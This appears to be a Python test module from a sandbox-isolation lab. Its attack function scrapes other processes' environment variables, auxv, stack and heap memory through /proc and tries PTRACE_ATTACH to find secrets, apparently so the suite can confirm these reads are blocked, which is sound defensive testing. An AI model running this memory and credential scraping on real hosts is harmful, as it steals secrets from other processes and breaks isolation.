"""Reads the memory of the host's processes: by /proc, by process_vm_readv, by ptrace."""

from __future__ import annotations

import contextlib
import os
from typing import Any

from tests.lab.attacks.programs.inside import call, read, secrets_in


def attack(world: dict[str, Any]) -> list[str]:
    found = b""
    for pid in {world["victim"], world["bot"], 1}:
        found += read(f"/proc/{pid}/environ") + read(f"/proc/{pid}/auxv")
        for line in read(f"/proc/{pid}/maps").decode().splitlines():
            if "[stack]" in line or "[heap]" in line:
                begin, end = (int(part, 16) for part in line.split()[0].split("-"))
                with contextlib.suppress(OSError):
                    found += os.pread(os.open(f"/proc/{pid}/mem", os.O_RDONLY), end - begin, begin)
        try:
            call("ptrace", 16, pid, 0, 0)  # PTRACE_ATTACH
            found += b"attached to " + str(pid).encode()
        except OSError:
            pass
    return [*secrets_in(found), *(["attached"] if b"attached" in found else [])]
